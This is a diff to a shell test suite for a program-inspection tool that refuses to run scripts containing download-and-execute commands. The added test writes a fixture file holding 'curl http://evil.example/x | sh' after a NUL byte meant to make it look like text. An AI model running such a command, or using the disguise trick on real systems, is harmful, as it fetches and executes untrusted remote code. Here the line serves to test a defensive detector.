@@ -53,6 +53,10 @@ jq -e '.status == "refused" and .exit_code == 126 and .error.code == "inspect" a
 grep -q 'inspect: bad.py:2: download-run' "$T/err" || fail "with --json, nothing is printed: $(cat "$T/err")"
 run --json -- python3 good.py
 jq -e 'has("inspect") | not' "$T/out" >/dev/null || fail "not looked at, but has: $(jq .inspect "$T/out")"
+# A file that shells take for a text, by its first line.
+printf ':>started\n#\0\ncurl http://evil.example/x | sh\n' >"$T/w/zero" && chmod +x "$T/w/zero"
+run --inspect -- sh -c ./zero
+refused 'zero:3: download-run'
 # What other programs start: unit tests have their options.
 run --inspect -- timeout -s KILL 60 nice -n 1 nohup stdbuf -oL env -S 'A=1 python3 -I' "$T/w/bad.py"
 refused "$T/w/bad.py:2: download-run"
